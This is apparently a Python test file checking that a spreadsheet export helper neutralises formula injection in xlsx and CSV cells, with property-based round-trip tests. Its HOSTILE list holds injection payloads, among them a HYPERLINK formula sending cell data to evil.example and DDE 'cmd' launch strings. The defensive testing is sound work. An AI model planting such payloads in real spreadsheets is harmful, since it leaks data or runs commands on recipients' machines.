"""Every export cell is inert: text a spreadsheet would run as a formula (=, +, -, @, tab, CR, LF
and their full-width forms) is written as text with an apostrophe in front, numbers stay numbers,
and the import takes the apostrophe off again so an exported sheet re-imports unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from huanxin.kit.excel import FORMULA_TRIGGERS, append_row, safe_csv_writer, unquote_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-5", "'=1+1", "''@x"]


def xlsx_round_trip(values: list[Any]) -> list[Any]:
    """Writes one row with the export helper and reads it back as Excel would get it."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, values)
    buffer = io.BytesIO()
    book.save(buffer)
    read = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    return [read.cell(1, column) for column in range(1, len(values) + 1)]


def csv_round_trip(values: list[Any]) -> list[str]:
    out = io.StringIO()
    safe_csv_writer(out).writerow(values)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_written_as_quoted_text_and_reads_back_unchanged(text: str) -> None:
    (cell,) = xlsx_round_trip([text])
    assert cell.data_type == "s" and cell.value == "'" + text
    assert csv_round_trip([text]) == ["'" + text]
    assert unquote_cell(cell.value) == text


def test_numbers_dates_and_plain_text_are_left_as_they_are() -> None:
    values: list[Any] = [-5, -1.5, 0, None, "已完成摸排", "'引号开头", "A-1", ""]
    cells = xlsx_round_trip(values)
    assert [c.value for c in cells[:6]] == [-5, -1.5, 0, None, "已完成摸排", "'引号开头"]
    assert cells[0].data_type == "n"  # a negative amount stays a number a spreadsheet can add up
    assert csv_round_trip([-5, "A-1"]) == ["-5", "A-1"]
    assert unquote_cell("'引号开头") == "'引号开头"  # an apostrophe we did not add stays


def test_error_codes_and_control_characters_do_not_break_the_sheet() -> None:
    # "#N/A" would become an error cell; a \x01 before "=" must not leave a live formula behind.
    cells = xlsx_round_trip(["#N/A", "\x01=cmd|' /C calc'!A0", "第一行\x0b第二行"])
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    assert [c.value for c in cells] == ["#N/A", "'=cmd|' /C calc'!A0", "第一行第二行"]


texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=30) | st.sampled_from(HOSTILE).flatmap(
    lambda hostile: st.text(max_size=5).map(lambda tail: hostile + tail))
cells = st.one_of(texts, st.integers(-10**12, 10**12), st.floats(allow_nan=False, allow_infinity=False),
                  st.none())


@settings(max_examples=150, deadline=None)
@given(st.lists(cells, min_size=1, max_size=6))
def test_no_exported_cell_is_ever_a_formula(values: list[Any]) -> None:
    for value, cell in zip(values, xlsx_round_trip(values), strict=True):
        assert cell.data_type != "f"
        if isinstance(value, str) and cell.value is not None:
            assert cell.data_type == "s" and cell.value[:1] not in FORMULA_TRIGGERS
            assert unquote_cell(cell.value) == ILLEGAL_CHARACTERS_RE.sub("", value)  # lossless round trip
    for value, field in zip(values, csv_round_trip(values), strict=True):
        if isinstance(value, str):
            assert field[:1] not in FORMULA_TRIGGERS and unquote_cell(field) == value
